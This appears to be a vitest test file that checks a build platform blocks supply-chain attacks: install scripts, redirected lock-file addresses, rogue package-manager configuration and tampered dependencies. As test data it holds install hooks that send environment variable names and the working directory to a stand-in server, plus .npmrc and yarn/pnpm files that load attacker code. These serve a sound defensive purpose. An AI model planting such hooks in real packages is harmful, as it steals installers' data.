import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { testEach } from "@pragma/testing/test-each";
import { expect, test } from "vitest";
import { build, buildError, manifest, providerModule, type Source } from "./helpers.ts";
import { type RegistryServer, startRegistry } from "./registry-server.ts";

/** Code that tells a server that it ran, and what it found. */
function report(server: RegistryServer): string {
  return `fetch(${JSON.stringify(server.url)} + "ran?" + encodeURIComponent(Object.keys(process.env).join() + process.cwd()))`;
}

/** A lock file of each package manager for `evil` 1.0.0; the addresses in it lead to another server. */
function locks(registry: RegistryServer, other: RegistryServer): Source[] {
  const integrity = registry.integrity("evil");
  const resolved = `${other.url}evil/-/evil-1.0.0.tgz`;
  const packages = {
    "": { dependencies: { evil: "^1.0.0" } },
    "node_modules/evil": { version: "1.0.0", resolved, integrity },
  };
  return [
    {},
    { "package-lock.json": JSON.stringify({ lockfileVersion: 3, packages }) },
    {
      "package-lock.json": JSON.stringify({
        lockfileVersion: 1,
        requires: true,
        dependencies: { evil: { version: "1.0.0", resolved, integrity } },
      }),
    },
    {
      "pnpm-lock.yaml": `lockfileVersion: '9.0'
settings: {autoInstallPeers: true, excludeLinksFromLockfile: false}
importers:
  .:
    dependencies:
      evil: {specifier: ^1.0.0, version: 1.0.0}
packages:
  evil@1.0.0: {resolution: {integrity: ${integrity}}}
snapshots:
  evil@1.0.0: {}
`,
    },
  ];
}

/** A registry with a package whose install would run scripts, and a server that nothing should contact. */
async function startServers(): Promise<{ registry: RegistryServer; other: RegistryServer }> {
  const other = await startRegistry([]);
  const run = `node -e '${report(other)}'`;
  const scripts = { preinstall: run, install: run, postinstall: run, prepare: run };
  const evil = {
    name: "evil",
    manifest: { scripts },
    files: { "index.js": 'module.exports = "evil";', "binding.gyp": "{}" },
  };
  return { registry: await startRegistry([evil]), other };
}

const USES_EVIL = providerModule('import evil from "evil";', "evil");

testEach([1, 3], [0, 2])("scripts do not run, addresses of the lock file are not visited (%i)", async (index) => {
  const { registry, other } = await startServers();
  const lock = locks(registry, other)[index] ?? {};
  const run = `node -e '${report(other)}'`;
  const scripts = { preinstall: run, install: run, postinstall: run, prepublish: run, preprepare: run, prepare: run };
  const source = {
    "package.json": manifest({ scripts, dependencies: { evil: "^1.0.0" } }),
    "index.js": USES_EVIL,
    ...lock,
  };
  const { description } = await build(source, { registry: registry.url });
  expect(description.types.thing?.description).toBe("evil");
  expect(registry.requests).toContain("/evil/-/evil-1.0.0.tgz");
  expect(other.requests).toEqual([]);
});

testEach([3], [0, 1])("configuration of package managers in the archive is ignored (%i)", async (index) => {
  const { registry, other } = await startServers();
  const lock = locks(registry, other)[index] ?? {};
  const code = `${report(other)};`;
  const configuration: Source = {
    ".npmrc": `registry=${other.url}\n//127.0.0.1/:_authToken=\${HOME}\nscript-shell=/bin/sh\nnode-options=--require ./evil.cjs\n`,
    ".yarnrc": `registry "${other.url}"\nyarn-path "./evil.cjs"\n`,
    ".yarnrc.yml": `npmRegistryServer: "${other.url}"\nyarnPath: ./evil.cjs\nplugins:\n  - ./plugin.cjs\n`,
    ".pnpmfile.cjs": code,
    ".pnpmfile.mjs": code,
    "pnpm-workspace.yaml": `registries: {default: "${other.url}"}\nconfigDependencies: {evil: "1.0.0"}\n`,
    "bunfig.toml": `[install]\nregistry = "${other.url}"\n`,
    ".yarn/plugins/evil.cjs": code,
    ".pnp.cjs": code,
  };
  const more = {
    "evil.cjs": code,
    "plugin.cjs": `module.exports = { name: "plugin", factory: () => { ${code} return {}; } };`,
  };
  const fields = {
    packageManager: "yarn@99.0.0",
    devEngines: { packageManager: { name: "bun", onFail: "error" } },
    workspaces: ["*"],
  };
  const log: string[] = [];
  const { description } = await build(
    {
      "package.json": manifest({ ...fields, dependencies: { evil: "^1.0.0" } }),
      "index.js": USES_EVIL,
      ...configuration,
      ...more,
      ...lock,
    },
    { registry: registry.url, log },
  );
  expect(description.types.thing?.description).toBe("evil");
  expect(other.requests).toEqual([]);
  const ignored = new Set(Object.keys(configuration).map((path) => path.replace(/\/.*$/, "")));
  for (const path of ignored)
    expect(log.join("")).toContain(`Ignored: ${path}, since the platform configures the package manager\n`);
  for (const field of Object.keys(fields)) expect(log.join("")).toContain(`Ignored: "${field}" of package.json\n`);
});

test("dependencies that are in the archive, and tampered with, are not used", async () => {
  const { registry } = await startServers();
  const source = {
    "package.json": manifest({ dependencies: { evil: "1.0.0" } }),
    "index.js": USES_EVIL,
    "node_modules/evil/index.js": 'module.exports = "from the archive";',
    "node_modules/zod/index.js": 'throw new Error("not the platform\'s");',
  };
  const { description } = await build(source, { registry: registry.url });
  expect(description.types.thing?.description).toBe("evil");
});

test("a package that is not what the lock file holds", async () => {
  const { registry, other } = await startServers();
  for (const lock of locks(registry, other).slice(1, 5)) {
    const tampered = Object.fromEntries(
      Object.entries(lock).map(([name, text]) => [name, text.replace(/sha512-[^"}\n]*/, `sha512-${"A".repeat(86)}==`)]),
    );
    const source = {
      "package.json": manifest({ dependencies: { evil: "^1.0.0" } }),
      "index.js": USES_EVIL,
      ...tampered,
    };
    expect(await buildError(source, { registry: registry.url })).toMatch(/its checksum differs/);
  }
});

/** A package that re-exports what it imports as zod and as the SDK, and the zod that it requires. */
async function startSchemas(zodVersion: string): Promise<RegistryServer> {
  const schemas = {
    name: "schemas",
    manifest: { type: "module", dependencies: { zod: zodVersion } },
    files: { "index.js": 'export { z } from "zod"; export { ConfigError } from "@pragma/sdk/provider";' },
  };
  return startRegistry([
    { name: "zod", manifest: { version: zodVersion }, files: { "index.js": 'exports.z = "its own";' } },
    schemas,
  ]);
}

test("zod and the SDK come from the platform in dependencies too", async () => {
  const { url } = await startSchemas("4.0.0");
  const use = 'import * as schemas from "schemas";\nimport { ConfigError } from "@pragma/sdk/provider";';
  const source = {
    "package.json": manifest({ dependencies: { schemas: "1.0.0" } }),
    "index.js": providerModule(use, "schemas.z === z && schemas.ConfigError === ConfigError"),
  };
  const { description } = await build(source, { registry: url });
  expect(description.types.thing?.description).toBe("true");
});

test("a dependency keeps a zod of another major version to itself", async () => {
  const { url } = await startSchemas("3.0.0");
  const source = {
    "package.json": manifest({ dependencies: { schemas: "1.0.0" } }),
    "index.js": providerModule('import * as schemas from "schemas";', "schemas.z"),
  };
  const log: string[] = [];
  const { description } = await build(source, { registry: url, log });
  expect(description.types.thing?.description).toBe("its own");
  expect(log.join("")).toContain("Kept: zod 3.0.0, which ../node_modules/schemas/index.js imports\n");
});

test("the code of these tests does report when it runs", async () => {
  const { other } = await startServers();
  await promisify(execFile)(process.execPath, ["-e", report(other)]);
  expect(other.requests).toHaveLength(1);
});
